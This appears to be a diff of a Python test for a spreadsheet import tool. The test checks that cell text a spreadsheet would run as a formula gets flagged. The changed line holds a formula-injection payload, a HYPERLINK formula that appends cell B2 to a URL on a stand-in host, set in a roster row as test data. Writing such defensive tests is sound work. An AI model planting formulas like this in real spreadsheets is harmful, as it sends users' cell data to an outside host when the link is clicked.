@@ -505,7 +505,7 @@ def test_what_check_finds_in_an_imported_record_is_told_at_the_sheets_cell(proje
 
 
 def test_text_that_a_spreadsheet_would_run_as_a_formula_is_pointed_out(project, tmp_path, capsys):
-    formula = '=HYPERLINK("http://x/"&B2,"点")'  # a 姓名 holds at most 30 characters
+    formula = '=HYPERLINK("http://x/?"&B2,"点我")'
     sheet = _typed_xlsx(tmp_path / "名册.xlsx", "花名册", [
         ["姓名", "入党时间", "岗位", "党小组", "手机号码"],
         [formula, "2008-07-01", "+1 岗", "@第一党小组", "+8613800000000"],
